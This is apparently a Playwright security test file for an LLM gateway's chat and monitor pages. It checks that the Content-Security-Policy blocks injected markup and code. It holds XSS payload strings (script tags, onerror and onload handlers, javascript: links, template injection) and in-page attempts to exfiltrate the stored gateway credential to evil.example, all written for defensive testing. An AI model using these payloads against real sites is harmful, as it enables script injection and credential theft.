"""Both pages in Chromium under their Content-Security-Policy: they never break it, and nothing that others write runs.

What others write: an answer, its thoughts and tools, a provider's error, the title of a chat, and, on the monitor, the
names of routes, upstreams, principals and models.
"""

import json
import re
from collections.abc import AsyncIterator, Sequence
from typing import Any

import pytest
import pytest_asyncio
from playwright.async_api import Browser, BrowserContext, Page, expect

from tests.kit.program import Gateway
from tests.kit.sse_client import Response, request
from tests.kit.upstream import (
    LAST_CHUNK,
    OPENAI_DONE,
    OPENAI_STOP,
    Exchange,
    Hang,
    Reset,
    ScriptedUpstream,
    Step,
    chunk,
    openai_chunk,
    openai_delta,
    response,
    sse_head,
)
from tests.real.browsing import browser_fixture, complaints_fixtures
from tests.real.test_page import ask, reach

pytestmark = pytest.mark.asyncio(loop_scope="module")

ATTACKS = {
    "script": "<script>pwned('script')</script>",
    "handler": "<img src=x onerror=pwned('handler')>",
    "svg": "<svg onload=pwned('svg')><animate onbegin=pwned('svg') attributeName=x></svg>",
    "style": "<style>*{display:none}</style><p style='display:none'>",
    "frame": "<iframe srcdoc='<script>parent.pwned()</script>'></iframe><object data=x></object><base href='//x/'>",
    "quote": "\"'><b onmouseover=pwned('quote')>",
    "template": "{{constructor.constructor('pwned()')()}}${pwned()}",
    "link": "[a](javascript:pwned('link')) <javascript:pwned()> ![b](https://evil.example/b.png)",
}
"""What a text tries where it is read as HTML, as an attribute, as a template, or as Markdown."""
ALL = " ".join(ATTACKS.values())
NAME = "<img src=x onerror=pwned()>"
KEY = "k"
EVENTS = {"Accept": "text/event-stream"}
PARTS = (
    "script, img, iframe, style, svg, object, form, b, base, [style]:not(canvas), [onerror], [onload], [onmouseover]"
)
FOREIGN = f"main :is({PARTS})"
"""What only markup could have put where texts of others stand; the buttons of the page's own templates have symbols."""

WATCH = f"""
if (location.host) sessionStorage.setItem("gateway-credential", {KEY!r});
window.broken = [];
window.ran = [];
window.pwned = (what) => ran.push(what ?? "code");
addEventListener("securitypolicyviolation", (event) => broken.push(event.effectiveDirective));
"""

TRIES = {
    "script-src": "add('script', {textContent: 'pwned()'})",
    "script-src-elem": "add('script', {src: 'data:text/javascript,pwned()'})",
    "script-src-attr": "const node = add('p'); node.setAttribute('onclick', 'pwned()'); node.click()",
    "style-src-attr": "add('p').setAttribute('style', 'display: none')",
    "style-src-elem": "add('style', {textContent: '* {display: none}'})",
    "img-src": "add('img', {src: 'https://evil.example/?' + sessionStorage['gateway-credential']})",
    "connect-src": "await fetch('https://evil.example/').catch(String)",
    "frame-src": "add('iframe', {src: 'https://evil.example/'})",
    "base-uri": "add('base', {href: 'https://evil.example/'})",
    "form-action": "add('form', {action: 'https://evil.example/'}).submit()",
    "require-trusted-types-for": "document.body.innerHTML = '<b>x</b>'",
    "eval": "setTimeout(() => { try { eval('pwned()') } catch (error) { broken.push(error.name) } })",
}
"""What code would do that had got in; each of them breaks a rule of the policy."""
TRY = """
async () => {
  const add = (tag, fields) => document.querySelector("main").appendChild(made(tag, fields));
  const made = (tag, fields) => Object.assign(document.createElement(tag), fields);
  broken.length = 0;
  try { await CODE } catch (error) { broken.push(error.name) }
  for (let left = 200; left && !broken.length; left -= 1) await new Promise((resolve) => setTimeout(resolve, 10));
  const shown = getComputedStyle(document.querySelector("main")).display !== "none";
  return {broken: [...broken], ran: [...ran], shown, base: document.baseURI};
}
"""


def tool(name: str, text: str) -> bytes:
    call = {"index": 0, "id": NAME, "type": "function", "function": {"name": name, "arguments": text}}
    return chunk(openai_chunk({"tool_calls": [call]}))


def play(exchange: Exchange) -> Sequence[Step]:
    """What the last question's first word asks for; `say` repeats the rest of it."""
    word, _, rest = exchange.json()["messages"][-1]["content"].partition(" ")
    if word == "fail":
        return [
            response(
                400, json.dumps({"error": {"message": f"No such model {ATTACKS['svg']}", "code": "model_not_found"}})
            )
        ]
    if word == "cut":
        return [sse_head(), openai_delta(rest), Reset()]
    if word == "hang":
        return [sse_head(), openai_delta(rest), Hang()]
    thought = openai_delta(rest, "reasoning_content")
    return [sse_head(), thought, tool(rest, rest), openai_delta(rest), OPENAI_STOP, OPENAI_DONE, LAST_CHUNK]


def config(url: str) -> dict[str, Any]:
    return {
        "auth": {"keys": [{"id": "web", "key": KEY}]},
        "plans": {"default": {"requests": None, "streams": None, "tokens": None}},
        "limits": {"per_address": {"requests": None, "connections": None}},
        "stream": {"retry": "100ms", "on_disconnect": {"after": "0s"}},
        "upstreams": {
            "main": {"dialect": "openai", "targets": [{"url": url}], "retries": 0, "breaker": {"failures": 1000}}
        },
        "routes": [
            {"path": "/api/chat", "api": "chat", "upstream": "main", "model": NAME},
            {"path": "/v1/chat", "api": "openai", "upstream": "main"},
        ],
    }


browser = browser_fixture()
heard, _nobody_complains = complaints_fixtures()


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def gateway(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Gateway]:
    async with (
        ScriptedUpstream(play) as upstream,
        Gateway(config(upstream.url), tmp_path_factory.mktemp("gateway")) as gateway,
    ):
        yield gateway


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def context(browser: Browser, heard: list[str]) -> AsyncIterator[BrowserContext]:
    async with await browser.new_context(locale="en-US") as context:
        await context.add_init_script(WATCH)
        context.on("weberror", lambda error: heard.append(str(error.error)))
        context.on("dialog", lambda dialog: heard.append(dialog.message))
        yield context


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def page(context: BrowserContext, gateway: Gateway) -> Page:
    """The chat page, for all tests: what they wrote stays in the list of chats."""
    page = await context.new_page()
    await page.goto(gateway.url)
    return page


async def kept(page: Page) -> None:
    """Asserts that the page broke no rule, ran nothing, and shows texts as text."""
    assert await page.evaluate("[broken, ran]") == [[], []]
    outside = "nodes => nodes.filter((node) => !node.closest('button')).map((node) => node.outerHTML)"
    assert await page.locator(FOREIGN).evaluate_all(outside) == []
    assert "pwned" not in await page.title()


async def asked(gateway: Gateway, question: str) -> Response:
    """The answer to a question on the route for API clients, with its first event read."""
    body = {"model": NAME, "stream": True, "messages": [{"role": "user", "content": question}]}
    headers = {"Authorization": f"Bearer {KEY}"}
    answer = await request(f"{gateway.url}/v1/chat", method="POST", headers=headers, body=body)
    await answer.next()
    return answer


async def test_whole_chat_breaks_no_rule(page: Page, gateway: Gateway) -> None:
    markdown = "say # A\n\n| a | b |\n|-|:-:|\n| 1 | 2 |\n\n1. **b** `c`\n\n```js\nd\n```\n\n[e](https://example.com/)"
    await ask(page, markdown)
    await reach(page, "done")
    await expect(page.locator(".answer table")).to_have_count(1)
    await expect(page.locator(".tools li")).to_have_count(1)
    await page.get_by_text("Thinking", exact=True).click()
    await page.locator("#theme").click()
    await page.get_by_role("button", name="Copy", exact=True).click()
    for word in ("cut", "fail"):
        await ask(page, f"{word} x")
        await reach(page, "error")
    await page.locator("#message").fill("three\nlines\nhigh")
    await page.reload()
    await expect(page.locator(".question")).to_have_count(3)
    await page.keyboard.press("Control+k")
    await kept(page)


@pytest.mark.parametrize("name", ATTACKS)
async def test_nothing_in_an_answer_runs(page: Page, name: str) -> None:
    """Nor in its thoughts, the names and arguments of its tools, or the title of its chat, however it is shown."""
    await page.keyboard.press("Control+k")
    await ask(page, f"say {ATTACKS[name]}")
    await reach(page, "done")
    await expect(page.locator(".tools li")).to_contain_text(ATTACKS[name])
    await expect(page.locator("#title")).to_contain_text(ATTACKS[name][:40])
    await page.get_by_text("Thinking", exact=True).click()
    for link in await page.locator(".answer a:not([href])").all():
        await link.click()
    await page.locator("#list li").first.get_by_role("button", name="Rename").click()
    await page.locator("#list input").fill(ATTACKS[name])
    await page.keyboard.press("Enter")
    await kept(page)


async def test_nothing_in_an_error_runs(page: Page) -> None:
    """A provider's sentence in the details of a failure is text."""
    await page.keyboard.press("Control+k")
    await ask(page, "fail")
    await reach(page, "error")
    await expect(page.locator(".whySentence")).to_contain_text(ATTACKS["svg"][:30])
    await kept(page)


async def test_nothing_on_the_monitor_runs(context: BrowserContext, gateway: Gateway) -> None:
    """Names of routes, upstreams, principals and models, and a provider's sentence, are text.

    A configuration takes no markup in names, but an issuer of tokens or a provider may write any: here the feed has it.
    """
    await (await asked(gateway, "fail")).close()
    hostile = ""
    async with (
        await asked(gateway, "hang on") as answer,
        await request(f"{gateway.admin}/events", headers=EVENTS) as feed,
    ):
        async for block in feed.messages():
            hostile += f"event: {block.type}\ndata: {block.data}\n\n"
            if answer.headers["x-stream-id"] in hostile and '"failures"' in hostile:
                break
    for name in ("main", "web", "scripted", "/v1/chat"):
        assert name in hostile
        hostile = re.sub(rf"(?<=[\":]){name}(?=\")", NAME, hostile)
    page = await context.new_page()
    await page.route("**/events", lambda route: route.fulfill(body=hostile, content_type="text/event-stream"))
    await page.goto(gateway.admin)
    await expect(page.locator("#streams tbody td.principal")).to_have_text(f"key:{NAME}")
    await expect(page.locator("#streams tbody td.route")).to_contain_text(NAME)
    await expect(page.locator("#upstreams .name")).to_have_text(NAME)
    await expect(page.locator("#failures tbody tr").first.locator("td.where")).to_contain_text(NAME)
    await kept(page)
    await page.close()


@pytest.mark.parametrize("listener", ["url", "admin"])
async def test_policy_stops_what_got_in(browser: Browser, gateway: Gateway, listener: str) -> None:
    """Code that had got into a page could not run more of it, load, or send anything elsewhere."""
    async with await browser.new_context() as context:
        await context.add_init_script(WATCH)
        page = await context.new_page()
        await page.goto(getattr(gateway, listener))
        for rule, code in TRIES.items():
            done = await page.evaluate(TRY.replace("CODE", f"(async () => {{ {code} }})()"))
            assert done["broken"], rule
            assert (done["ran"], done["shown"]) == ([], True), rule
            assert done["base"].startswith(getattr(gateway, listener)), rule
